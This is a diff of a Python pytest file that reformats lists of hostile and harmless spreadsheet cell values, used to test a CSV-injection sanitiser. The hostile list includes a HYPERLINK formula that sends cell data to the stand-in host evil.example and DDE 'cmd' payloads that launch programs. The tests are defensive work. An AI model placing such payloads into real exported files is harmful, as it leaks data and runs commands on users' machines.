@@ -7,10 +7,36 @@ import pytest
 from bassins.spreadsheet import formula_like, safe_cell, safe_value
 
 # OWASP "CSV Injection": cells starting with = + - @ tab or carriage return are run as formulas.
-HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "=1+2", "+cmd|' /C calc'!A0", "+SUM(1,2)",
-           "-2+3", "-cmd|' /C notepad'!A0", "@SUM(A1:A9)", "\t=1+2", "\r=1+2", "=", "+", "-", "@"]
-HARMLESS = ["Pharmacie du Midi", "CPAS d'Anderlecht", "", "1+1", "a=b", " =1", "'=already quoted", "Région",
-            "21004A00-", "2020-01-01", "+32 2 529 41 20", "+32 (0)2 529.41.20", "+32/2/529-41-20"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "=1+2",
+    "+cmd|' /C calc'!A0",
+    "+SUM(1,2)",
+    "-2+3",
+    "-cmd|' /C notepad'!A0",
+    "@SUM(A1:A9)",
+    "\t=1+2",
+    "\r=1+2",
+    "=",
+    "+",
+    "-",
+    "@",
+]
+HARMLESS = [
+    "Pharmacie du Midi",
+    "CPAS d'Anderlecht",
+    "",
+    "1+1",
+    "a=b",
+    " =1",
+    "'=already quoted",
+    "Région",
+    "21004A00-",
+    "2020-01-01",
+    "+32 2 529 41 20",
+    "+32 (0)2 529.41.20",
+    "+32/2/529-41-20",
+]
 
 
 @pytest.mark.parametrize("text", HOSTILE)
